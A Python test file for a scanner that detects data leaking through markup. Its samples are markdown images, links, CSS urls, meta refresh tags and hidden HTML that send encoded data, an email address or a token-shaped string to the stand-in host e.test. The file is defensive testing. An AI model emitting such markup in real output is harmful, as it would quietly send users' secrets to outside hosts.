"""What addresses and hidden markup carry."""

from __future__ import annotations

import pytest

from rune.scan.detectors.links import HIDDEN_RULE, RULE, carried_in, suspects

DATA = "U2VjcmV0RGF0YUZvcllvdTEyMzQ1Njc4"
TOKEN = "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"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        pytest.param(f"![x](https://e.test/p.png?d={DATA})", [(RULE, "high")], id="image"),
        pytest.param(f"[x](https://e.test/?d={DATA})", [(RULE, "medium")], id="link"),
        pytest.param(f"![a][b]\n\n[b]: https://e.test/?q={DATA}", [(RULE, "high")], id="reference of an image"),
        pytest.param("<img src='https://e.test/a?mail=bob@acme.test'>", [(RULE, "high")], id="personal data"),
        pytest.param(f"background:url(https://e.test/x?k={TOKEN})", [(RULE, "high")], id="style"),
        pytest.param(f"![x](https://{'4f2a9c8d7e6b5a4f3e2d1c0b9a8f7e6d'}.e.test/x.png)", [(RULE, "high")], id="host name"),
        pytest.param(f"<meta http-equiv='refresh' content='0; url=https://e.test/?k={TOKEN}'>", [(RULE, "high")], id="refresh"),
        pytest.param(f"<!-- {TOKEN} -->", [(HIDDEN_RULE, "high")], id="comment"),
        pytest.param(f"<span style='display:none'>{TOKEN} is it</span>", [(HIDDEN_RULE, "high")], id="hidden text"),
        pytest.param("![b](https://img.shields.io/badge/build-passing-green?style=flat)", [], id="badge"),
        pytest.param("[doc](https://docs.python.org/3/library/re.html#re.compile)", [], id="documentation"),
        pytest.param("<!-- a note for the next editor of this page -->", [], id="note"),
    ],
)
def test_what_an_address_carries(text: str, found: list[tuple[str, str]]) -> None:
    assert [(item.rule, item.severity.value) for item in carried_in(text.encode())] == found
    assert not found or suspects(text.encode())
